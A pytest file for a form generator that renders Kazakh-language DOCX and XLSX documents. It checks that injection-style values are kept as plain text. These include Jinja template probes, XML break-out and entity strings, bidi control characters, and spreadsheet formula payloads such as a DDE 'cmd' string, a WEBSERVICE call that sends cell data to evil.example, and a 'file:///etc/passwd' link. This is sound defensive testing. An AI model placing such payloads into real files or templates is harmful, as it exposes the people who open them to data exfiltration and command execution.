"""Values that look like something else: they are printed as they are, or refused by name."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from lxml import etree

import formgen
from formgen.intake import build_intake
from formgen.model.base import Form
from formgen.model.printing import printed
from formgen.problems import errors_of
from formgen.templates.filters import GAP
from formgen.templates.folders import own_folder
from tests.forms.factories import FACTORIES
from tests.support.audit import audit
from tests.support.wordtext import docx_text

JINJA = [
    "{{ 7 * 7 }}",
    "{{ applicant.__class__ }}",
    "{% for a in range(9) %}а{% endfor %}",
    "{# түсініктеме #}",
    "{{ '{{' }} {%- raw -%} {% endraw %}",
    "{_{ name }_} {_% x %_}",
    "{%tr for a in b %} {%p if x %} {{r y }} {%- a -%}",
    "}} %} #} {{ {% {#",
    "{{<w:t>}}",
    "{ { a } } {\u200b{ a }\u200b}",
]
XML = [
    "<w:t>қалың</w:t>",
    "</w:t></w:r></w:p><w:p><w:r><w:t>жаңа",
    "<![CDATA[ а ]]>",
    "]]> а",
    "<?xml version='1.0'?>",
    "<!-- а --> -->",
    "<!DOCTYPE x [<!ENTITY a 'b'>]>&a;",
    "&amp; &lt; &#1179; &#x0; &nope;",
    "\"' onload='а'",
]
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","Осында басыңыз")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1;1)",
    "\t=1+1",
    "'=1+1",
    "http://evil.example/",
    "https://evil.example/?a=1&b=2",
    "file:///etc/passwd",
    "mailto:a@evil.example",
    "#REF!",
    "TRUE",
    "1E5",
    "0001",
    "2026-01-01",
    "_x000D_",
    "_x0041_",
]
STEERING = {
    "U+202E": "abc\u202edef",
    "U+202A": "\u202aабв\u202c",
    "U+2066": "\u2066абв\u2069",
    "U+200B": "ноль\u200bширина",
    "U+200D": "а\u200dб",
    "U+200E": "а\u200eб",
    "U+2060": "а\u2060б",
    "U+FEFF": "а\ufeffб",
    "U+061C": "а\u061cб",
}
UNPRINTABLE = [
    "\x00",
    "\x01",
    "\x0b",
    "\x1b[2J",
    "\x1f",
    "\ud800",
    "\udfff",
    "\udbff\udbff",
    "\ufffe",
    "\uffff",
    "\ufdd0",
    GAP,
]

MONEY = {
    "budget_request": "service_name",
    "interim_financial_report": "topic",
    "final_financial_report": "topic",
}
_R = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}"
_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def activity(text: str, **given: Any) -> Form:
    return FACTORIES["premium_activity"](contribution=text, innovations=f"«{text}»", **given)


@pytest.mark.parametrize("text", [*JINJA, *XML, *FORMULAS])
def test_a_value_is_printed_and_read_back_letter_for_letter(text: str, tmp_path: Path) -> None:
    form = activity(text)
    data = formgen.render(form, "kk")
    assert f"«{text}»" in docx_text(data)
    assert audit(data, "docx") == []
    paths = formgen.write(form, tmp_path)
    assert formgen.read(*paths) == printed(form)


def test_a_value_leads_nowhere() -> None:
    """What looks like an address is text: nothing in the document is related to anything outside of it."""
    form = activity("\n".join((*FORMULAS, *JINJA, *XML)))
    with zipfile.ZipFile(io.BytesIO(formgen.render(form, "kk"))) as package:
        for name in package.namelist():
            if name.endswith(".rels"):
                assert b"External" not in package.read(name)
        body = package.read("word/document.xml")
    assert b"<w:instrText" not in body
    assert b"<w:fldSimple" not in body


@pytest.mark.parametrize("code", STEERING)
def test_characters_that_steer_or_hide_are_printed_as_given_and_warned_about(
    code: str, tmp_path: Path
) -> None:
    form = activity(STEERING[code])
    warned = [(problem.path, problem.severity, code in problem.message()) for problem in formgen.check(form)]
    assert warned == [
        ("contribution", formgen.Severity.WARNING, True),
        ("innovations", formgen.Severity.WARNING, True),
    ]
    paths = formgen.write(form, tmp_path)
    assert formgen.read(*paths) == printed(form)


@pytest.mark.parametrize("char", UNPRINTABLE, ids=ascii)
def test_characters_that_no_document_carries_are_refused_by_field_and_marked_in_a_draft(char: str) -> None:
    form = activity(f"мәтін{char}")

    with pytest.raises(formgen.FormErrors) as refused:
        formgen.render(form, "kk")

    errors = [(problem.path, problem.code) for problem in errors_of(refused.value.problems)]
    assert errors == [("contribution", "text.unprintable"), ("innovations", "text.unprintable")]
    assert refused.value.message("kk").encode()  # and the message itself can be displayed
    assert "мәтін" in docx_text(formgen.render(form, "kk", draft=True))


@pytest.mark.parametrize("char", UNPRINTABLE, ids=ascii)
def test_no_workbook_to_type_into_is_made_of_what_it_cannot_hold(char: str, tmp_path: Path) -> None:
    form = activity(f"мәтін{char}")
    try:
        data = build_intake(form.ID, form)
    except formgen.FormgenError:
        return
    path = tmp_path / "a.xlsx"
    path.write_bytes(data)
    assert formgen.load(path) == form


def sheets(data: bytes) -> dict[str, etree._Element]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {
            name: etree.fromstring(package.read(name))
            for name in package.namelist()
            if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name)
        }


@pytest.mark.parametrize("form_id", MONEY)
def test_no_text_becomes_a_formula_or_a_link_in_a_workbook(form_id: str) -> None:
    if not (own_folder("templates_kk") / f"{form_id}.xlsx").exists():
        pytest.skip("this form has no workbook yet")
    field = MONEY[form_id]
    plain = formgen.render(FACTORIES[form_id](**{field: "тақырып"}), "kk", "xlsx")
    formulas = sum(len(list(root.iter(f"{_MAIN}f"))) for root in sheets(plain).values())
    for text in (*FORMULAS, *JINJA, *XML):
        data = formgen.render(FACTORIES[form_id](**{field: text}), "kk", "xlsx")
        roots = sheets(data).values()
        assert sum(len(list(root.iter(f"{_MAIN}f"))) for root in roots) == formulas
        assert not any(list(root.iter(f"{_MAIN}hyperlink")) for root in roots)
        with zipfile.ZipFile(io.BytesIO(data)) as package:
            shared = package.read("xl/sharedStrings.xml")
        said = ["".join(map(str, item.itertext())) for item in etree.fromstring(shared).iter(f"{_MAIN}si")]
        escaped = re.sub("_(?=x[0-9A-F]{4}_)", "_x005F_", text)
        assert any(escaped in one for one in said)
        assert b"External" not in b"".join(_relations(data))


@pytest.mark.parametrize("text", [*FORMULAS, *JINJA, *XML])
def test_no_text_becomes_a_formula_or_a_link_in_a_workbook_to_type_into(text: str, tmp_path: Path) -> None:
    form = activity(text)
    data = build_intake(form.ID, form)
    for root in sheets(data).values():
        assert [formula for formula in root.iter(f"{_MAIN}f") if formula.getparent().tag == f"{_MAIN}c"] == []  # type: ignore[union-attr]
        assert [
            link for link in root.iter(f"{_MAIN}hyperlink") if link.get(f"{_R}id")
        ] == []  # but to its sheets
    assert b"External" not in b"".join(_relations(data))
    path = tmp_path / "a.xlsx"
    path.write_bytes(data)
    assert formgen.load(path) == form


def _relations(data: bytes) -> list[bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return [package.read(name) for name in package.namelist() if name.endswith(".rels")]
